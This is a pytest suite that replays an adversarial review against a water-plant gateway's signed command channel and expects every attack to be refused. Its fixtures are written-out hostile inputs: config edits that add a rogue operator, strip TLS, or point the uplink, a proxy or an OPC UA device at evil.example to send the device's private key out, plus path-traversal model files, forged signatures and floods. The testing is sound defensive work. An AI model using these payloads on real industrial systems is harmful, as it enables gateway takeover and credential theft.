"""The adversarial run's findings on the command channel, each as the attack that was made.

Every command ends in one audit line and one `command_result` (refused writes, nesting the
signature input cannot take, oversized payloads, a config the agent may not write); what a sender
controls costs bounded audit and answer bytes; a flood is summarised, not mirrored; keys are rate
limited; a config_update needs its own rights for security, writes and the uplink destination; a
model bundle cannot reach outside itself or into another detector's slot.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import os
import stat
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.testing import eventually
from tests.test_commands_remote import LEAK_MANIFEST, SITE, TARGET, bundle, public_b64
from water_edge.agent.remote.audit import AuditLog, read_audit
from water_edge.agent.remote.channel import CommandChannel
from water_edge.agent.remote.config import OperatorKey, SecuritySection
from water_edge.agent.remote.handlers import Targets, build_handlers
from water_edge.agent.remote.nonces import NonceStore
from water_edge.agent.remote.processor import CommandProcessor
from water_edge.agent.uplink.commands import CommandInbox
from water_edge.agent.uplink.topics import Topics
from water_edge.agent.writes import WriteGuard, WriteRule, WritesSection
from water_edge.core import envelope
from water_edge.core.reading import Event
from water_edge.models.manifest import shipped
from water_edge.models.runtime import ModelSlot, load_model

GW = "gw-01"
ALL = ["read_now", "config_update", "model_update", "restart", "write"]


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


class Centre:
    """The gateway's command channel with real nonce store and audit log, and the centre's keys."""

    def __init__(self, state: Path, targets: Targets, **security: Any) -> None:
        self.state = state
        self.admin = Ed25519PrivateKey.generate()
        self.ops = Ed25519PrivateKey.generate()
        self.viewer = Ed25519PrivateKey.generate()
        self.keys = {"admin": self.admin, "ops": self.ops, "viewer": self.viewer}
        self.config = SecuritySection(
            operators=[
                OperatorKey(
                    name="admin",
                    public_key=public_b64(self.admin),
                    commands=ALL,  # type: ignore[arg-type]
                    config_rights=["security", "writes", "uplink"],
                ),
                OperatorKey(name="ops", public_key=public_b64(self.ops), commands=ALL),  # type: ignore[arg-type]
                OperatorKey(name="viewer", public_key=public_b64(self.viewer), commands=["read_now"]),
            ],
            **security,
        )
        targets.config_rights = {op.name: frozenset(op.config_rights) for op in self.config.operators}
        self.targets = targets
        self.mono = Clock()
        self.nonces = NonceStore(state / "nonces.sqlite")
        self.audit = AuditLog(state / "audit.log", max_bytes=self.config.audit_max_bytes)
        self.proc = CommandProcessor(
            self.config,
            site=SITE,
            gateway=GW,
            nonces=self.nonces,
            audit=self.audit,
            handlers=build_handlers(targets),
            monotonic=self.mono,
        )
        self.events: list[Event] = []
        self.channel = CommandChannel(self.proc, self._emit)

    async def _emit(self, event: Event) -> None:
        self.events.append(event)

    def sign(self, ctype: str, args: dict[str, Any] | None = None, *, key: str = "ops", **kw: Any) -> bytes:
        return envelope.sign(self.keys[key], key, ctype, kw.pop("target", f"{SITE}/{GW}"), args, **kw)

    async def send(self, ctype: str, payload: bytes) -> dict[str, Any]:
        """Deliver as the uplink does; the detail of the command_result it produced."""
        before = len(self.events)
        await self.channel(ctype, payload)
        assert len(self.events) == before + 1, "every command is answered exactly once"
        detail: dict[str, Any] = self.events[-1].detail
        return detail

    def audit_lines(self) -> list[dict[str, Any]]:
        return read_audit(self.state / "audit.log")

    def close(self) -> None:
        self.nonces.close()
        self.audit.close()


@pytest.fixture
def centre(tmp_path: Path) -> Iterator[Centre]:
    reads: list[Any] = []

    async def read_now(devices: list[str] | None) -> dict[str, Any]:
        reads.append(devices)
        return {"read": len(reads)}

    c = Centre(tmp_path, Targets(read_now=read_now))
    c.reads = reads  # type: ignore[attr-defined]
    yield c
    c.close()


# ---------------------------------------------------------------- finding 4: refusals reach the centre


async def test_a_refused_plc_write_is_answered_and_audited_to_the_end(tmp_path: Path) -> None:
    audit_path = tmp_path / "audit.log"
    rule = WriteRule(device="station", table="holding", address=500, type="uint16", min=50, max=400)
    targets = Targets()
    c = Centre(tmp_path, targets)
    # The guard refuses before any I/O: the writer is never reached for these.
    targets.writer = WriteGuard(WritesSection(enabled=True, allow=[rule]), {}, c.audit)
    c.proc = CommandProcessor(
        c.config, site=SITE, gateway=GW, nonces=c.nonces, audit=c.audit, handlers=build_handlers(targets)
    )
    c.channel = CommandChannel(c.proc, c._emit)
    attempts = [
        {"device": "station", "table": "coil", "address": 0, "value": True},  # pump enable: not listed
        {"device": "station", "table": "holding", "address": 500, "value": 9000},  # out of range
    ]
    for n, args in enumerate(attempts):
        detail = await c.send("write", c.sign("write", args, command_id=f"w-{n}"))
        assert detail["status"] == "refused"
        assert detail["reason"].startswith("write_refused: ")
    outcomes = [(e["action"], e["outcome"], e.get("id")) for e in read_audit(audit_path)]
    for n in range(len(attempts)):
        assert ("command", "accepted", f"w-{n}") in outcomes
        assert ("command", "refused", f"w-{n}") in outcomes, "the audit does not stop at 'accepted'"
    assert sum(o[:2] == ("plc_write", "refused") for o in outcomes) == len(attempts)
    assert c.proc.stats().refused_by_reason["write_refused"] == len(attempts)
    c.close()


@pytest.mark.parametrize("depth", [40, 254, 300, 1000, 1024, 5000])
async def test_deeply_nested_args_are_refused_audited_and_answered(centre: Centre, depth: int) -> None:
    nested: Any = 1
    for _ in range(depth):
        nested = [nested]
    # Built by hand: the attacker's bytes, not something our signer would produce.
    doc = orjson.loads(centre.sign("read_now"))
    doc["args"] = {"devices": "X"}
    payload = orjson.dumps(doc).replace(b'"X"', b"[" * depth + b"1" + b"]" * depth)
    detail = await centre.send("read_now", payload)
    assert detail["status"] == "refused"
    assert detail["reason"].startswith("too_deep: ")
    (entry,) = centre.audit_lines()
    assert (entry["outcome"], entry["reason"]) == ("refused", "too_deep")
    assert centre.reads == []  # type: ignore[attr-defined]


@settings(max_examples=60, deadline=None)
@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers(-(2**63), 2**64 - 1)
        | st.floats(allow_nan=False, allow_infinity=False)
        | st.text(max_size=8),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
        max_leaves=30,
    )
)
def test_signature_input_is_orjsons_canonical_form_at_any_depth(value: Any) -> None:
    assert envelope.canonical_json(value) == orjson.dumps(value, option=orjson.OPT_SORT_KEYS)


def test_signature_input_builds_past_orjsons_recursion_limit() -> None:
    deep: Any = {}
    for _ in range(2000):
        deep = {"a": [deep]}
    with pytest.raises(TypeError):
        orjson.dumps(deep, option=orjson.OPT_SORT_KEYS)  # what broke before: "Recursion limit reached"
    text = envelope.canonical_json(deep)
    assert text.startswith(b'{"a":[{"a":[')
    assert text.count(b"[") == 2000


async def test_an_oversized_command_is_answered_not_dropped_silently(centre: Centre) -> None:
    limit = centre.config.max_command_bytes
    inbox = CommandInbox(Topics("water", SITE, GW), centre.channel)
    assert inbox.max_bytes == limit, "the inbox takes the [security] limit"
    payload = centre.sign("read_now", {"pad": "x" * (limit + 10)}, command_id="big-1")
    assert not inbox.offer(f"water/{SITE}/{GW}/cmd/read_now", payload)
    worker = asyncio.create_task(inbox.run())
    try:
        await eventually(lambda: bool(centre.events), 5, "the refusal's answer")
    finally:
        worker.cancel()
    detail = centre.events[0].detail
    assert (detail["status"], detail["type"]) == ("refused", "read_now")
    assert detail["reason"].startswith("too_large: ")
    # no id (nothing in it was read): its sender knows it by the digest of what it sent
    assert (detail["id"], detail["sha"]) == (None, hashlib.sha256(payload).hexdigest()[:16])
    (entry,) = centre.audit_lines()
    assert (entry["reason"], entry["size"], entry["sha"]) == ("too_large", len(payload), detail["sha"])
    assert inbox.stats().rejected == 1


async def test_a_config_the_agent_may_not_write_is_refused_and_answered(tmp_path: Path) -> None:
    # The old layout: config.toml a plain file in a directory the agent cannot write (here: a path
    # whose directory is a file, which refuses root as well as the service user).
    blocked = tmp_path / "etc-is-a-file"
    blocked.write_text("")
    c = Centre(tmp_path / "state", Targets(config_path=blocked / "config.toml"))
    detail = await c.send("config_update", c.sign("config_update", {"config": "schema_version = 1\n"}))
    assert detail["status"] == "refused"
    assert detail["reason"].startswith("permission: cannot write")
    assert [e["outcome"] for e in c.audit_lines()] == ["accepted", "refused"]
    c.close()


# ---------------------------------------------------------------- finding 6: amplification


async def test_a_huge_key_id_costs_a_bounded_audit_line_and_answer(centre: Centre) -> None:
    doc = orjson.loads(centre.sign("read_now"))
    doc["key_id"] = "k" * 60_000
    payload = orjson.dumps(doc)
    detail = await centre.send("read_now", payload)
    assert detail["status"] == "refused"
    assert detail["reason"].startswith("malformed: ")
    assert len(orjson.dumps(centre.events[-1].detail)) < 1024
    assert (centre.state / "audit.log").stat().st_size < 1024


async def test_answers_and_audit_are_bounded_whatever_the_sender_puts_in(centre: Centre) -> None:
    payload = centre.sign("read_now", {"x": "y"}, command_id="i" * 128)
    doc = orjson.loads(payload)
    doc["type"] = "t" * 5000
    detail = await centre.send("read_now", orjson.dumps(doc))
    assert detail["status"] == "refused"
    assert len(orjson.dumps(detail)) < 1024
    # A valid command on a 60 KB topic (the shipped ACL grants one level under cmd/, another may not).
    detail = await centre.send("r" * 60_000, centre.sign("read_now"))
    assert detail["reason"].startswith("topic_mismatch: ")
    assert len(orjson.dumps(detail)) < 1024
    for line in (centre.state / "audit.log").read_bytes().splitlines():
        assert len(line) < 1024


async def test_a_flood_of_refusals_is_counted_in_full_but_summarised(centre: Centre) -> None:
    budget = centre.config.max_refusals_per_minute
    forged = orjson.loads(centre.sign("read_now"))
    forged["sig"] = base64.b64encode(b"\x00" * 64).decode()
    flood = 10 * budget
    for i in range(flood):
        forged["nonce"] = f"{i:032x}"
        await centre.channel("read_now", orjson.dumps(forged))
    assert centre.proc.stats().refused_by_reason["bad_signature"] == flood, "every refusal is counted"
    assert len(centre.events) == budget, "answers stop at the budget"
    assert len(centre.audit_lines()) == budget, "so do audit lines"
    centre.mono.now += 61  # the next window: the first refusal reports what was left unsaid
    await centre.channel("read_now", orjson.dumps(forged))
    summary = centre.audit_lines()[-2]
    assert (summary["reason"], summary["count"]) == ("suppressed", flood - budget)
    assert centre.events[-1].detail["result"] == {"refusals_not_answered": flood - budget}


def test_the_audit_log_rotates_at_its_size_cap(tmp_path: Path) -> None:
    audit = AuditLog(tmp_path / "audit.log", max_bytes=8 * 1024, keep=2)
    for i in range(500):
        audit.record("command", "refused", reason="bad_signature", id=f"c-{i}", message="m" * 100)
    audit.close()
    files = sorted(tmp_path.glob("audit.log*"))
    assert [f.name for f in files] == ["audit.log", "audit.log.1", "audit.log.2"]
    assert sum(f.stat().st_size for f in files) <= 3 * 8 * 1024
    assert all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
    newest = read_audit(tmp_path / "audit.log")
    assert newest[-1]["id"] == "c-499"
    assert audit.rotations > 2


def test_a_rotation_that_fails_half_way_never_touches_the_descriptor_it_gave_up(tmp_path: Path) -> None:
    """A failing card refuses the renames of a rotation after the old file was closed. Before, the
    log kept that closed number and closed it again at the next line: by then another file (the
    outbox's database, the broker's socket) may hold it, and its writes went astray."""
    audit = AuditLog(tmp_path / "audit.log", max_bytes=512, keep=1)
    line = {"reason": "bad_signature", "message": "m" * 200}
    assert audit.record("command", "refused", **line)  # the next one rotates
    (tmp_path / "audit.log.1").mkdir()  # the rename onto it fails, as on a card gone read-only
    assert not audit.record("command", "refused", **line)
    assert audit.last_error is not None
    other = os.open(tmp_path / "outbox.sqlite", os.O_RDWR | os.O_CREAT, 0o600)  # the number freed
    try:
        assert not audit.record("command", "refused", **line)
        os.fstat(other)  # still open: not closed by the log
        assert os.pread(other, 10, 0) == b""  # nor written to
    finally:
        os.close(other)
    (tmp_path / "audit.log.1").rmdir()  # the card is back: the log rotates and writes again
    assert audit.record("command", "refused", **line)
    audit.close()
    audit.close()  # twice: harmless
    assert read_audit(tmp_path / "audit.log")[-1]["outcome"] == "refused"


# ---------------------------------------------------------------- finding 10: time window, rates


async def test_a_command_that_expires_before_it_is_issued_is_refused(centre: Centre) -> None:
    doc = orjson.loads(centre.sign("read_now"))
    payload = envelope.sign(centre.ops, "ops", "read_now", TARGET, {}, now=doc["issued_at"], ttl_s=-10)
    detail = await centre.send("read_now", payload)
    assert detail["status"] == "refused"
    assert detail["reason"] == "malformed: expires_at is not after issued_at"


async def test_one_key_cannot_drive_unbounded_plc_reads(centre: Centre) -> None:
    limit = centre.config.max_commands_per_minute
    answers = [await centre.send("read_now", centre.sign("read_now", key="viewer")) for _ in range(3 * limit)]
    assert len(centre.reads) == limit  # type: ignore[attr-defined]
    refused = [a for a in answers if a["status"] == "refused"]
    assert len(refused) == 2 * limit
    assert all(a["reason"].startswith("rate_limited: ") for a in refused)
    # Another key is not held back by the viewer's flood, and the viewer gets a new minute.
    assert (await centre.send("read_now", centre.sign("read_now", key="ops")))["status"] == "ok"
    centre.mono.now += 60
    assert (await centre.send("read_now", centre.sign("read_now", key="viewer")))["status"] == "ok"


async def test_replays_of_a_captured_command_do_not_use_up_its_keys_rate(centre: Centre) -> None:
    """Whoever may publish on the command topic (a central service's account) but holds no
    operator key can resend a command it saw: the replays are refused, and used to count against
    the key's rate, locking its operator out for the minute."""
    captured = centre.sign("read_now", key="viewer")
    assert (await centre.send("read_now", captured))["status"] == "ok"
    limit = centre.config.max_commands_per_minute
    replays = [await centre.send("read_now", captured) for _ in range(2 * limit)]
    assert {a["reason"].split(":")[0] for a in replays} == {"replay"}
    assert (await centre.send("read_now", centre.sign("read_now", key="viewer")))["status"] == "ok"


# ---------------------------------------------------------------- finding 5: config_update within rights

BASE_CONFIG = """schema_version = 1
[gateway]
site = "north-plant"
id = "gw-01"
state_dir = "{state}"
[uplink]
host = "mqtt.north.example"
port = 8883
[uplink.tls]
ca_file = "/etc/edge-agent/ca.pem"
cert_file = "/var/lib/edge-agent/identity/current/cert.pem"
key_file = "/var/lib/edge-agent/identity/current/key.pem"
[buffer]
flush_interval_ms = 200
[[security.operators]]
name = "admin"
public_key = "{admin}"
commands = ["read_now", "config_update"]
config_rights = ["security", "writes", "uplink"]
[[security.operators]]
name = "ops"
public_key = "{ops}"
commands = ["read_now", "config_update", "write"]
[writes]
enabled = true
[[writes.allow]]
device = "station"
table = "holding"
address = 500
type = "uint16"
min = 50
max = 400
[[devices]]
name = "station"
kind = "modbus_tcp"
host = "10.1.0.20"
port = 502
[[devices.tags]]
name = "level"
address = 16
type = "float32"
"""

ATTACKS: dict[str, tuple[Callable[[str], str], str]] = {
    "a new all-rights operator": (
        lambda t: (
            t + '[[security.operators]]\nname = "mallory"\npublic_key = "{ops}"\n'
            'commands = ["read_now", "config_update", "model_update", "restart", "write"]\n'
            'config_rights = ["security", "writes", "uplink"]\n'
        ),
        "security",
    ),
    "every operator removed": (
        lambda t: t[: t.index("[[security.operators]]")] + t[t.index("[writes]") :],
        "security",
    ),
    "a pump-enable coil added to the allow-list": (
        lambda t: t.replace(
            "[[devices]]",
            '[[writes.allow]]\ndevice = "station"\ntable = "coil"\naddress = 0\ntype = "bool"\n\n[[devices]]',
        ),
        "writes",
    ),
    "the written device pointed at another PLC": (
        lambda t: t.replace('host = "10.1.0.20"', 'host = "10.9.9.9"'),
        "writes",
    ),
    "TLS removed and the uplink pointed at another broker": (
        lambda t: (
            t[: t.index("[uplink.tls]")].replace("mqtt.north.example", "evil.example").replace("8883", "1883")
            + t[t.index("[buffer]") :]
        ),
        "uplink",
    ),
    "the state directory moved (an empty nonce store)": (
        lambda t: t.replace('state_dir = "', 'state_dir = "/tmp/elsewhere'),
        "security",
    ),
    # The outbox quarantines a file that is not an outbox; the status socket replaces its path. (The
    # outbox in the nonce store's own file is no valid config at all: tests/test_config_load_checks.py.)
    "the outbox pointed at the device key": (
        lambda t: t.replace("[buffer]\n", '[buffer]\npath = "identity/current/key.pem"\n'),
        "security",
    ),
    "the status socket pointed at the device key": (
        lambda t: t.replace("[buffer]\n", '[status]\nsocket = "identity/current/key.pem"\n[buffer]\n'),
        "security",
    ),
    # The proxy sees every connection (and would be sent the file a proxy_password names).
    "the uplink sent through another proxy": (
        lambda t: t.replace("port = 8883\n", 'port = 8883\nproxy = "http://gw:pw@proxy.evil.example:3128"\n'),
        "uplink",
    ),
    "the uplink moved to WebSockets": (
        lambda t: t.replace("port = 8883\n", 'port = 8883\ntransport = "websockets"\n'),
        "uplink",
    ),
    "the gateway's state served to the whole network": (
        lambda t: t.replace("[buffer]\n", '[status]\nmetrics = "0.0.0.0:9464"\n[buffer]\n'),
        "security",
    ),
}


@pytest.fixture
def managed(tmp_path: Path) -> Iterator[tuple[Centre, Path]]:
    """The installed layout: /etc/edge-agent/config.toml -> managed/config.toml."""
    etc = tmp_path / "etc" / "edge-agent"
    (etc / "managed").mkdir(parents=True)
    c = Centre(tmp_path / "state", Targets())
    text = BASE_CONFIG.format(state=tmp_path / "state", admin=public_b64(c.admin), ops=public_b64(c.ops))
    (etc / "managed" / "config.toml").write_text(text)
    os.chmod(etc / "managed" / "config.toml", 0o640)
    (etc / "config.toml").symlink_to("managed/config.toml")
    c.targets.config_path = etc / "config.toml"
    yield c, etc
    c.close()


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_config_update_needs_its_own_right_for_security_writes_and_uplink(
    managed: tuple[Centre, Path], attack: str
) -> None:
    c, etc = managed
    before = (etc / "config.toml").read_text()
    change, right = ATTACKS[attack]
    new = change(before).replace("{ops}", public_b64(c.ops))
    detail = await c.send("config_update", c.sign("config_update", {"config": new, "restart": False}))
    assert detail["status"] == "refused", attack
    assert detail["reason"].startswith("config_rights: ")
    assert f"needs the '{right}' right" in detail["reason"]
    assert (etc / "config.toml").read_text() == before, "nothing changed"
    assert not (etc / "managed" / "config.toml.prev").exists()
    # The same change from a key holding the rights goes through.
    ok = await c.send(
        "config_update", c.sign("config_update", {"config": new, "restart": False}, key="admin")
    )
    assert ok["status"] == "ok", ok
    assert (etc / "config.toml").read_text() == new


async def test_a_failover_uplink_is_not_redirected_without_the_uplink_right(
    managed: tuple[Centre, Path],
) -> None:
    c, etc = managed
    on_servers = (
        (etc / "config.toml")
        .read_text()
        .replace('host = "mqtt.north.example"\nport = 8883', 'servers = ["mqtts://mqtt.north.example:8883"]')
    )
    detail = await c.send(
        "config_update", c.sign("config_update", {"config": on_servers, "restart": False}, key="admin")
    )
    assert detail["status"] == "ok", detail
    for attack in (
        on_servers.replace(
            'servers = ["mqtts://mqtt.north.example:8883"]', 'servers = ["mqtts://evil.example:8883"]'
        ),
        on_servers.replace("[buffer]\n", '[uplink.sparkplug]\nedge_node_id = "gw-02"\n[buffer]\n').replace(
            "[uplink.tls]", 'encoding = "sparkplug_b"\n[uplink.tls]'
        ),
    ):
        refused = await c.send("config_update", c.sign("config_update", {"config": attack, "restart": False}))
        assert refused["status"] == "refused", refused
        assert "(needs the 'uplink' right)" in refused["reason"], refused["reason"]
        assert (etc / "config.toml").read_text() == on_servers


HISTORIAN = """
[[devices]]
name = "historian"
kind = "opcua"
endpoint = "{endpoint}"
username = "gw-01"
password = {{ file = "{secret}" }}
[[devices.tags]]
name = "flow"
node = "ns=2;s=flow"
"""


async def test_no_device_carries_a_gateway_secret_to_a_server_without_the_security_right(
    managed: tuple[Centre, Path], tmp_path: Path
) -> None:
    """The device key (0600, the agent's) passes the secret file check: an OPC UA device added by
    a key with only config_update sent it as its password to a server of that key's choosing."""
    c, etc = managed
    device_key = tmp_path / "state" / "identity" / "current" / "key.pem"
    device_key.parent.mkdir(parents=True)
    device_key.write_text("-----BEGIN PRIVATE KEY-----\n")
    os.chmod(device_key, 0o600)
    before = (etc / "config.toml").read_text()

    async def update(text: str, key: str = "ops") -> dict[str, Any]:
        return await c.send(
            "config_update", c.sign("config_update", {"config": text, "restart": False}, key=key)
        )

    exfiltrate = before + HISTORIAN.format(endpoint="opc.tcp://evil.example:4840", secret=device_key)
    refused = await update(exfiltrate)
    assert refused["status"] == "refused", refused
    assert "devices (historian: a secret reference) (needs the 'security' right)" in refused["reason"]
    assert (etc / "config.toml").read_text() == before

    # An administrator adds a device that reads its password from a file ...
    ours = before + HISTORIAN.format(endpoint="opc.tcp://10.1.0.30:4840", secret=device_key)
    assert (await update(ours, key="admin"))["status"] == "ok"
    # ... which an ordinary key may then neither point elsewhere ...
    moved = ours.replace("opc.tcp://10.1.0.30:4840", "opc.tcp://evil.example:4840")
    assert (await update(moved))["status"] == "refused"
    # ... nor find in the way of an ordinary change.
    assert (await update(ours.replace("flush_interval_ms = 200", "flush_interval_ms = 500")))[
        "status"
    ] == "ok"


async def test_an_ordinary_config_change_lands_in_the_managed_file(managed: tuple[Centre, Path]) -> None:
    c, etc = managed
    new = (etc / "config.toml").read_text().replace("flush_interval_ms = 200", "flush_interval_ms = 500")
    detail = await c.send("config_update", c.sign("config_update", {"config": new, "restart": False}))
    assert detail["status"] == "ok", detail
    assert (etc / "config.toml").is_symlink(), "the link the unit reads through stays"
    assert (etc / "managed" / "config.toml").read_text() == new
    assert "flush_interval_ms = 200" in (etc / "managed" / "config.toml.prev").read_text()
    assert stat.S_IMODE((etc / "managed" / "config.toml").stat().st_mode) == 0o640, "the mode is kept"
    assert sorted(p.name for p in (etc / "managed").iterdir()) == ["config.toml", "config.toml.prev"]


# ---------------------------------------------------------------- finding 8: model_update confined

PUMP_MANIFEST = shipped("water_edge.models.pump", "pump_scorer.json")


@pytest.fixture
def leak_slot(tmp_path: Path) -> Iterator[tuple[Centre, ModelSlot]]:
    slot = ModelSlot(load_model(LEAK_MANIFEST))
    c = Centre(tmp_path / "state", Targets(models_dir=tmp_path / "models", model_slots={"leak-h1": slot}))
    yield c, slot
    c.close()


def _update(c: Centre, manifest: dict[str, Any], files: dict[str, str]) -> bytes:
    args = {"slot": "leak-h1", "manifest": "manifest.json", "files": files}
    return c.sign("model_update", args)


async def test_model_file_outside_the_bundle_is_never_read(
    leak_slot: tuple[Centre, ModelSlot], tmp_path: Path
) -> None:
    c, slot = leak_slot
    key = tmp_path / "key.pem"
    key.write_bytes(b"-----BEGIN PRIVATE KEY-----\nsecret\n-----END PRIVATE KEY-----\n")
    key_sha = hashlib.sha256(key.read_bytes()).hexdigest()
    model = (LEAK_MANIFEST.parent / "leak_detector.tflite").read_bytes()
    for model_file in (str(key), "../../../key.pem", "../leak_detector.tflite", "."):
        manifest = {**orjson.loads(LEAK_MANIFEST.read_bytes()), "model_file": model_file, "sha256": key_sha}
        files = {
            "leak_detector.tflite": base64.b64encode(model).decode(),
            "manifest.json": base64.b64encode(orjson.dumps(manifest)).decode(),
        }
        detail = await c.send("model_update", _update(c, manifest, files))
        assert detail["status"] == "refused", model_file
        assert "is not one of the files sent" in detail["reason"]
        assert key_sha[:8] not in orjson.dumps(c.events[-1].detail).decode()
    assert slot.model.version == orjson.loads(LEAK_MANIFEST.read_bytes())["version"]


async def test_a_model_without_self_test_is_refused(leak_slot: tuple[Centre, ModelSlot]) -> None:
    c, slot = leak_slot
    model = (LEAK_MANIFEST.parent / "leak_detector.tflite").read_bytes()
    manifest = {**orjson.loads(LEAK_MANIFEST.read_bytes()), "version": "6.6.6", "self_test": []}
    detail = await c.send("model_update", _update(c, manifest, bundle(manifest, model)))
    assert (detail["status"], detail["reason"]) == (
        "refused",
        "bad_model: the manifest has no self_test vectors",
    )
    assert slot.model.version != "6.6.6"


async def test_the_pump_scorer_cannot_take_the_leak_slot(leak_slot: tuple[Centre, ModelSlot]) -> None:
    c, slot = leak_slot
    pump = (PUMP_MANIFEST.parent / "pump_scorer.tflite").read_bytes()
    honest = orjson.loads(PUMP_MANIFEST.read_bytes())
    detail = await c.send("model_update", _update(c, honest, bundle(honest, pump)))
    assert detail["status"] == "refused"
    assert "does not match the slot's" in detail["reason"]
    # Lying about the shapes does not help: the self-test must run at the slot's shapes.
    leak_spec = orjson.loads(LEAK_MANIFEST.read_bytes())
    liar = {**honest, "input": leak_spec["input"], "output": leak_spec["output"], "version": "6.6.6"}
    detail = await c.send("model_update", _update(c, liar, bundle(liar, pump)))
    assert detail["status"] in ("refused", "failed")
    liar["self_test"] = leak_spec["self_test"]
    detail = await c.send("model_update", _update(c, liar, bundle(liar, pump)))
    assert detail["status"] == "failed"
    assert "old one stays" in detail["reason"]
    assert slot.model.name == leak_spec["name"]
    assert slot.model.version == leak_spec["version"]


# ---------------------------------------------------------------- docs walk 4, finding 4: whose refusal


async def test_a_signed_command_refused_by_a_check_is_answered_and_audited_with_its_id_and_key(
    centre: Centre,
) -> None:
    """A refusal after the signature verified (wrong target, expired, TTL over the maximum, a type
    the key may not send, a replay, the key's rate) was answered `"id": null` and audited with
    `"id": null, "key": null`: a sender retrying until it sees its `command_result` could never
    match it, and the audit log did not say whose PLC write was refused. Before the signature
    verifies, nothing the payload claims is believed: neither its id nor its key is echoed."""
    now = int(time.time())  # the processor's clock
    accepted = centre.sign("read_now", key="viewer", command_id="c-ok")
    assert (await centre.send("read_now", accepted))["status"] == "ok"
    sign = centre.sign
    cases = [
        ("read_now", accepted, "c-ok", "viewer", "replay"),
        (
            "read_now",
            sign("read_now", command_id="c-gw", target=f"{SITE}/gw-99"),
            "c-gw",
            "ops",
            "wrong_target",
        ),
        (
            "write",
            sign("write", {"device": "d"}, key="viewer", command_id="c-w"),
            "c-w",
            "viewer",
            "not_authorised",
        ),
        ("read_now", sign("read_now", command_id="c-ttl", ttl_s=7200), "c-ttl", "ops", "ttl_too_long"),
        ("read_now", sign("read_now", command_id="c-old", now=now - 4000), "c-old", "ops", "expired"),
    ]
    for ctype, payload, command_id, key, code in cases:
        detail = await centre.send(ctype, payload)
        assert (detail["status"], detail["reason"].split(":")[0]) == ("refused", code)
        assert (detail["id"], detail["type"]) == (command_id, ctype), code
        line = centre.audit_lines()[-1]
        assert (line["outcome"], line["reason"]) == ("refused", code)
        assert (line["id"], line["key"]) == (command_id, key)

    limit = centre.config.max_commands_per_minute
    for n in range(limit + 1):
        detail = await centre.send("read_now", centre.sign("read_now", key="viewer", command_id=f"r-{n}"))
    assert detail["reason"].startswith("rate_limited: ")
    assert detail["id"] == f"r-{limit}"
    assert (centre.audit_lines()[-1]["id"], centre.audit_lines()[-1]["key"]) == (f"r-{limit}", "viewer")

    # Not verified: the id and key it names are anybody's to write, and are not passed on.
    forged = orjson.loads(centre.sign("read_now", command_id="c-forged"))
    forged["sig"] = base64.b64encode(b"\x00" * 64).decode()
    detail = await centre.send("read_now", orjson.dumps(forged))
    assert detail["reason"].startswith("bad_signature: ")
    assert detail["id"] is None
    line = centre.audit_lines()[-1]
    assert (line["reason"], line["id"], line["key"]) == ("bad_signature", None, None)
